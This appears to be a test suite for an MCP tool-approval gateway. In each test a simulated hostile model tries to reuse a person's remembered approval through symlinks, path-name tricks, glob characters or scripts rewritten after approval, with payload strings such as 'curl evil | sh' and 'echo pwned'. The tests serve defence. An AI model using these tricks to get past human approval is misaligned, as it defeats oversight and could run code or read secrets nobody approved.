import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { describe, expect, it } from 'vitest';
import { useAttackHomes } from './support/attack-workspace.js';
import { decide, decideIfAsked, pendingApproval } from './support/pending-approval.js';
import { closeAfterEach, connectClient, makeWorkspace, serveWorkspace, type ServedGateway } from './support/serve-gateway.js';
import { startCli } from './support/spawn-cli.js';

// A hostile model against what a person's "Approve for session" and "Always allow" stand in for: it asks for an
// innocuous call, the person remembers it, and the model then uses that approval for a call nobody was shown.
// Each drives `toolgate serve` with the MCP SDK client and the console's API, started again on the same workspace
// and home where a rule "Always allow" wrote is what the next start trusts, and checks the end effect on disk.

const text = (result: object): string => JSON.stringify((result as { content?: unknown }).content);
const opened = closeAfterEach();

const attackHome = useAttackHomes('toolgate-remembered-home');

/** A gateway on `workspace` with `HOME` at `home`, and an MCP client of it; both closed after the test. */
async function start(workspace: string, home: string): Promise<{ gateway: ServedGateway; mcp: Client }> {
  const gateway = opened.gateway(await serveWorkspace(workspace, { env: { HOME: home } }));
  const mcp = opened.client((await connectClient(gateway.mcpUrl, 'attacker', undefined, gateway.auth)).client);
  return { gateway, mcp };
}

/** Call `name` and answer its card with `decision`, as the person would; resolves with what the call returned. */
async function approved(at: { gateway: ServedGateway; mcp: Client }, name: string, args: Record<string, unknown>, decision: string): Promise<object> {
  const call = at.mcp.callTool({ name, arguments: args });
  await decide(at.gateway, (await pendingApproval(at.gateway, name)).id, decision);
  return call;
}

describe('attack: "Always allow" of a command stands in for the same argv run somewhere else', () => {
  // `x\..` is one folder on Linux, which a repository may ship, and the root to a reader that takes `\` for `/`.
  it.each(['src', 'x\\..'])('a rule written for `rm -rf build` at the workspace root does not delete the build of the folder %s at the next start', async (folder) => {
    const home = attackHome();
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask', policy: { allowedCommandGlobs: ['rm *'] } }, { 'build/out.txt': 'scratch\n', [`${folder}/build/keep.txt`]: 'keep\n' });
    const first = await start(workspace, home);
    expect((await approved(first, 'run_command', { command: ['rm', '-rf', 'build'] }, 'always')) as { isError?: boolean }).not.toMatchObject({ isError: true });
    expect(existsSync(join(workspace, 'build'))).toBe(false);
    await first.mcp.close();
    await first.gateway.cli.stop();

    const next = await start(workspace, home);
    const elsewhere = await decideIfAsked(next.gateway, next.mcp, 'run_command', { command: ['rm', '-rf', 'build'], cwd: folder }, 'reject');
    expect(elsewhere.card, `ran without asking: ${text(elsewhere.result)}`).toBeDefined();
    expect(readFileSync(join(workspace, folder, 'build', 'keep.txt'), 'utf8')).toBe('keep\n');
    // The command the person approved still runs at once where it was approved.
    mkdirSync(join(workspace, 'build'));
    const same = await decideIfAsked(next.gateway, next.mcp, 'run_command', { command: ['rm', '-rf', 'build'] }, 'reject');
    expect(same.card).toBeUndefined();
    expect(existsSync(join(workspace, 'build'))).toBe(false);
  });

  it('a rule written for `cat notes.txt` does not read the file notes.txt leads to once it is a link, at the next start', async () => {
    const home = attackHome();
    writeFileSync(join(home, 'outside.txt'), 'OUTSIDE-SECRET\n');
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask', policy: { allowedCommandGlobs: ['cat *'] } }, { 'notes.txt': 'plain notes\n' });
    const first = await start(workspace, home);
    expect(text(await approved(first, 'run_command', { command: ['cat', 'notes.txt'] }, 'always'))).toContain('plain notes');
    await first.mcp.close();
    await first.gateway.cli.stop();

    rmSync(join(workspace, 'notes.txt'));
    symlinkSync(join(home, 'outside.txt'), join(workspace, 'notes.txt'));
    const next = await start(workspace, home);
    const linked = await decideIfAsked(next.gateway, next.mcp, 'run_command', { command: ['cat', 'notes.txt'] }, 'reject');
    expect(linked.card, `ran without asking: ${text(linked.result)}`).toBeDefined();
    expect(text(linked.result)).not.toContain('OUTSIDE-SECRET');
  });
});

describe('attack: a session approval of a command stands in after its argument became a link', () => {
  it('`cat notes.txt` approved for the session asks again once notes.txt leads to a file outside, or to another file', async () => {
    const home = attackHome();
    writeFileSync(join(home, 'outside.txt'), 'OUTSIDE-SECRET\n');
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask', policy: { allowedCommandGlobs: ['cat *'] } }, { 'notes.txt': 'plain notes\n', 'private/plans.md': 'PRIVATE-PLANS\n', '.env': 'ENV-SECRET=1\n' });
    const at = await start(workspace, home);
    expect(text(await approved(at, 'run_command', { command: ['cat', 'notes.txt'] }, 'session'))).toContain('plain notes');

    // A link to a protected file asked before: a protected path is never approved by memory.
    for (const [target, secret] of [[join(home, 'outside.txt'), 'OUTSIDE-SECRET'], ['private/plans.md', 'PRIVATE-PLANS'], ['.env', 'ENV-SECRET']] as const) {
      rmSync(join(workspace, 'notes.txt'));
      symlinkSync(target, join(workspace, 'notes.txt'));
      const again = await decideIfAsked(at.gateway, at.mcp, 'run_command', { command: ['cat', 'notes.txt'] }, 'reject');
      expect(again.card, `ran without asking: ${text(again.result)}`).toBeDefined();
      expect(text(again.result)).not.toContain(secret);
    }
  });
});

describe('attack: "Always allow" of a write to a name holding a backslash', () => {
  it('a rule written for the file `src\\index.ts` does not let the next start write src/index.ts', async () => {
    const home = attackHome();
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask' }, { 'src/index.ts': 'export const original = 1;\n' });
    mkdirSync(join(workspace, 'src'), { recursive: true });
    const first = await start(workspace, home);
    const call = first.mcp.callTool({ name: 'write_file', arguments: { path: 'src\\index.ts', content: 'scratch\n' } });
    const card = await pendingApproval(first.gateway, 'write_file');
    expect(card.target?.files[0]?.path).toBe('src\\index.ts');
    await decide(first.gateway, card.id, 'always');
    expect((await call) as { isError?: boolean }).not.toMatchObject({ isError: true });
    expect(readFileSync(join(workspace, 'src\\index.ts'), 'utf8')).toBe('scratch\n');
    await first.mcp.close();
    await first.gateway.cli.stop();

    const next = await start(workspace, home);
    const other = await decideIfAsked(next.gateway, next.mcp, 'write_file', { path: 'src/index.ts', content: 'PWNED\n' }, 'reject');
    expect(other.card, `wrote without asking: ${text(other.result)}`).toBeDefined();
    expect(readFileSync(join(workspace, 'src', 'index.ts'), 'utf8')).toBe('export const original = 1;\n');
  });
});

describe('attack: "Always allow" of a write to a workspace folder named ~', () => {
  it('a rule written for the workspace file ~/notes.txt does not let the next start write the home\'s notes.txt', async () => {
    const home = attackHome();
    writeFileSync(join(home, 'notes.txt'), 'home notes\n');
    const workspace = makeWorkspace({ scope: 'full', mode: 'ask' }, { '~/notes.txt': 'workspace notes\n' });
    const first = await start(workspace, home);
    const call = first.mcp.callTool({ name: 'write_file', arguments: { path: './~/notes.txt', content: 'scratch\n' } });
    await decide(first.gateway, (await pendingApproval(first.gateway, 'write_file')).id, 'always');
    expect((await call) as { isError?: boolean }).not.toMatchObject({ isError: true });
    expect(readFileSync(join(workspace, '~', 'notes.txt'), 'utf8')).toBe('scratch\n');
    await first.mcp.close();
    await first.gateway.cli.stop();

    const next = await start(workspace, home);
    const other = await decideIfAsked(next.gateway, next.mcp, 'write_file', { path: join(home, 'notes.txt'), content: 'PWNED\n' }, 'reject');
    expect(other.card, `wrote without asking: ${text(other.result)}`).toBeDefined();
    expect(readFileSync(join(home, 'notes.txt'), 'utf8')).toBe('home notes\n');
  });
});

describe('attack: a call with a masked part, approved by the rule "Always allow" wrote', () => {
  it('a write to the remembered file whose content holds a masked value asks at the next start', async () => {
    const home = attackHome();
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask' }, { 'notes.md': 'first\n' });
    const first = await start(workspace, home);
    expect((await approved(first, 'write_file', { path: 'notes.md', content: 'second\n' }, 'always')) as { isError?: boolean }).not.toMatchObject({ isError: true });
    await first.mcp.close();
    await first.gateway.cli.stop();

    const next = await start(workspace, home);
    const masked = await decideIfAsked(next.gateway, next.mcp, 'write_file', { path: 'notes.md', content: `token ghp_${'a'.repeat(36)}\n` }, 'reject');
    expect(masked.card, `wrote without asking: ${text(masked.result)}`).toBeDefined();
    expect(masked.card?.masked).toBe(1);
    expect(readFileSync(join(workspace, 'notes.md'), 'utf8')).toBe('second\n');
  });
});

describe('attack: a repository ships .toolgate as a link to the user\'s toolgate folder', () => {
  it('the gateway refuses to start, and writes nothing there: no journal, no token, no project rule in the user\'s file', async () => {
    const home = attackHome();
    const user = join(home, '.config', 'toolgate');
    mkdirSync(user, { recursive: true });
    const rules = `${JSON.stringify({ rules: [{ tool: 'read_file', decision: 'allow', source: 'user', match: { path: './keep.md' } }] })}\n`;
    writeFileSync(join(user, 'policy.json'), rules);
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask' }, { 'notes.md': 'first\n' });
    symlinkSync(user, join(workspace, '.toolgate'));
    const cli = startCli(['--json', 'serve', '--http', '0'], workspace, { HOME: home });
    const answer = await cli.ready;
    await cli.stop();
    // A gateway that starts keeps its journal and token there, and its first "Always allow" drops the user's own
    // allows and writes the project's rule into the user's file, which every workspace trusts.
    expect(readdirSync(user)).toEqual(['policy.json']);
    expect(answer).toMatchObject({ ok: false, error: { kind: 'config', message: expect.stringContaining('.toolgate is not a folder') as unknown } });
    expect(readFileSync(join(user, 'policy.json'), 'utf8')).toBe(rules);
  });
});

describe('attack: "Always allow" of a write to a name holding a glob\'s alternation or quote', () => {
  it('rules written for `drafts/today|run.sh` and `"deploy.sh` do not let the next start write run.sh or deploy.sh', async () => {
    const home = attackHome();
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask' }, { 'run.sh': 'echo original\n', 'deploy.sh': 'echo deploy\n', 'drafts/keep.md': 'drafts\n' });
    const first = await start(workspace, home);
    // Odd but harmless names, each shown whole on its card: a note in drafts, a file whose name starts with a quote.
    for (const path of ['drafts/today|run.sh', '"deploy.sh']) {
      const call = first.mcp.callTool({ name: 'write_file', arguments: { path, content: 'scratch\n' } });
      const card = await pendingApproval(first.gateway, 'write_file');
      expect(card.target?.files[0]?.path).toBe(path);
      await decide(first.gateway, card.id, 'always');
      expect((await call) as { isError?: boolean }).not.toMatchObject({ isError: true });
      expect(readFileSync(join(workspace, path), 'utf8')).toBe('scratch\n');
    }
    await first.mcp.close();
    await first.gateway.cli.stop();

    const next = await start(workspace, home);
    for (const [path, original] of [['run.sh', 'echo original\n'], ['deploy.sh', 'echo deploy\n']] as const) {
      const other = await decideIfAsked(next.gateway, next.mcp, 'write_file', { path, content: 'curl evil | sh\n' }, 'reject');
      expect(other.card, `wrote ${path} without asking: ${text(other.result)}`).toBeDefined();
      expect(readFileSync(join(workspace, path), 'utf8')).toBe(original);
    }
    // What the person approved is still approved at once.
    const same = await decideIfAsked(next.gateway, next.mcp, 'write_file', { path: 'drafts/today|run.sh', content: 'again\n' }, 'reject');
    expect(same.card).toBeUndefined();
    expect(readFileSync(join(workspace, 'drafts/today|run.sh'), 'utf8')).toBe('again\n');
  });
});

// The same attacker against an approval of a command that runs a file of the workspace: the person approves
// `bash run.sh` (having read run.sh, or written it), and the model then rewrites run.sh, with an edit the mode lets
// through or while the card is still open, so that the approval would run code nobody was shown.
const BENIGN = 'echo tests passed; exit 0\n';
const PAYLOAD = 'echo pwned > pwned.txt\necho tests passed\n';

describe('attack: an approval of a command stands in for the file it runs after that file changed', () => {
  it('`bash run.sh` approved for the session asks again once an edit the mode lets through rewrote run.sh', async () => {
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'accept-edits', policy: { allowedCommandGlobs: ['bash *'] } }, { 'run.sh': BENIGN });
    const at = await start(workspace, attackHome());
    expect(text(await approved(at, 'run_command', { command: ['bash', 'run.sh'] }, 'session'))).toContain('tests passed');
    // The remembered approval still stands in for the file as it was.
    const same = await decideIfAsked(at.gateway, at.mcp, 'run_command', { command: ['bash', 'run.sh'] }, 'reject');
    expect(same.card).toBeUndefined();
    expect(text(same.result)).toContain('tests passed');

    // accept-edits writes a workspace file without asking: the model rewrites the script it was allowed to run.
    const write = await decideIfAsked(at.gateway, at.mcp, 'write_file', { path: 'run.sh', content: PAYLOAD }, 'reject');
    expect(write.card).toBeUndefined();
    expect(readFileSync(join(workspace, 'run.sh'), 'utf8')).toBe(PAYLOAD);
    const rewritten = await decideIfAsked(at.gateway, at.mcp, 'run_command', { command: ['bash', 'run.sh'] }, 'reject');
    expect(rewritten.card, `ran without asking: ${text(rewritten.result)}`).toBeDefined();
    expect(existsSync(join(workspace, 'pwned.txt'))).toBe(false);
  });

  // A twelfth attack: "Always allow" wrote an exact-argv rule that held no stamp, so the next start ran whatever run.sh held.
  it('`sh run.sh` allowed always does not run, at the next start, what an edit the mode let through wrote into run.sh', async () => {
    const home = attackHome();
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'accept-edits', policy: { allowedCommandGlobs: ['sh *'] } }, { 'run.sh': BENIGN });
    const first = await start(workspace, home);
    expect(text(await approved(first, 'run_command', { command: ['sh', 'run.sh'] }, 'always'))).toContain('tests passed');
    // No rule can say what run.sh held: the approval lasts as long as the session, as "Approve for session" does.
    expect(existsSync(join(workspace, '.toolgate', 'policy.json'))).toBe(false);
    const same = await decideIfAsked(first.gateway, first.mcp, 'run_command', { command: ['sh', 'run.sh'] }, 'reject');
    expect(same.card).toBeUndefined();
    const write = await decideIfAsked(first.gateway, first.mcp, 'write_file', { path: 'run.sh', content: PAYLOAD }, 'reject');
    expect(write.card).toBeUndefined();
    await first.mcp.close();
    await first.gateway.cli.stop();

    const next = await start(workspace, home);
    const rewritten = await decideIfAsked(next.gateway, next.mcp, 'run_command', { command: ['sh', 'run.sh'] }, 'reject');
    expect(rewritten.card, `ran without asking: ${text(rewritten.result)}`).toBeDefined();
    expect(existsSync(join(workspace, 'pwned.txt'))).toBe(false);
  });

  it('`sh run.sh` approved for the session asks again once the script is rewritten in place to the same length', async () => {
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask', policy: { allowedCommandGlobs: ['sh *'] } }, { 'run.sh': BENIGN });
    const at = await start(workspace, attackHome());
    expect(text(await approved(at, 'run_command', { command: ['sh', 'run.sh'] }, 'session'))).toContain('tests passed');
    // Same length, same inode: only the bytes differ, written by another program than the model's tools.
    const swapped = 'echo pwned>pwned.txt #'.padEnd(BENIGN.length - 1, '#') + '\n';
    expect(swapped.length).toBe(BENIGN.length);
    writeFileSync(join(workspace, 'run.sh'), swapped);
    const again = await decideIfAsked(at.gateway, at.mcp, 'run_command', { command: ['sh', 'run.sh'] }, 'reject');
    expect(again.card, `ran without asking: ${text(again.result)}`).toBeDefined();
    expect(existsSync(join(workspace, 'pwned.txt'))).toBe(false);
  });

  it('a script rewritten while its card is open is not run by the approval the person then gives', async () => {
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'ask', policy: { allowedCommandGlobs: ['bash *'] } }, { 'run.sh': BENIGN });
    const at = await start(workspace, attackHome());
    const call = at.mcp.callTool({ name: 'run_command', arguments: { command: ['bash', 'run.sh'] } });
    const card = await pendingApproval(at.gateway, 'run_command');
    // The person reads run.sh, as it is now; before they answer, it changes under the card.
    writeFileSync(join(workspace, 'run.sh'), PAYLOAD);
    await decide(at.gateway, card.id, 'once');
    const result = (await call) as { isError?: boolean };
    expect(result.isError, `ran: ${text(result)}`).toBe(true);
    expect(text(result)).toContain('its target changed after it was checked and approved');
    expect(existsSync(join(workspace, 'pwned.txt'))).toBe(false);
  });
});

/**
 * Two files of the same length written back to back, as an archive's extraction or a checkout writes them: within
 * one tick of the file system's clock, so their sizes and both times are the same. Written again until they are.
 */
function writeTwins(first: string, firstText: string, second: string, secondText: string): void {
  expect(firstText.length).toBe(secondText.length);
  for (let attempt = 0; attempt < 50; attempt += 1) {
    rmSync(first, { force: true });
    rmSync(second, { force: true });
    writeFileSync(first, firstText);
    writeFileSync(second, secondText);
    const [a, b] = [statSync(first), statSync(second)];
    if (a.size === b.size && a.mtimeMs === b.mtimeMs && a.ctimeMs === b.ctimeMs) return;
  }
  throw new Error('could not write two files within one tick');
}

describe('attack: a session approval of a command runs another file holding the same stamp', () => {
  it('`sh tools/run.sh` approved for the session asks again once tools/ is a folder renamed into its place', async () => {
    // auto mode: `mv` runs under its allow rule, `sh` asks a person.
    const workspace = makeWorkspace({ scope: 'workspace-write', mode: 'auto', policy: { allowedCommandGlobs: ['sh *', 'mv *'], allow: ['Bash(mv *)'] } });
    mkdirSync(join(workspace, 'tools'));
    mkdirSync(join(workspace, 'staging'));
    const swapped = 'echo pwned>pwned.txt #'.padEnd(BENIGN.length - 1, '#') + '\n';
    // The model ships the payload beside the script the person will read, both written in the same tick.
    writeTwins(join(workspace, 'tools', 'run.sh'), BENIGN, join(workspace, 'staging', 'run.sh'), swapped);
    const at = await start(workspace, attackHome());
    expect(text(await approved(at, 'run_command', { command: ['sh', 'tools/run.sh'] }, 'session'))).toContain('tests passed');

    // Renaming the folders moves neither file's times: tools/run.sh is now the payload, its size and times the approved ones.
    for (const command of [['mv', 'tools', 'old'], ['mv', 'staging', 'tools']]) {
      const moved = await decideIfAsked(at.gateway, at.mcp, 'run_command', { command }, 'reject');
      expect(moved.card).toBeUndefined();
    }
    expect(readFileSync(join(workspace, 'tools', 'run.sh'), 'utf8')).toBe(swapped);
    const again = await decideIfAsked(at.gateway, at.mcp, 'run_command', { command: ['sh', 'tools/run.sh'] }, 'reject');
    expect(again.card, `ran without asking: ${text(again.result)}`).toBeDefined();
    expect(existsSync(join(workspace, 'pwned.txt'))).toBe(false);
  });
});
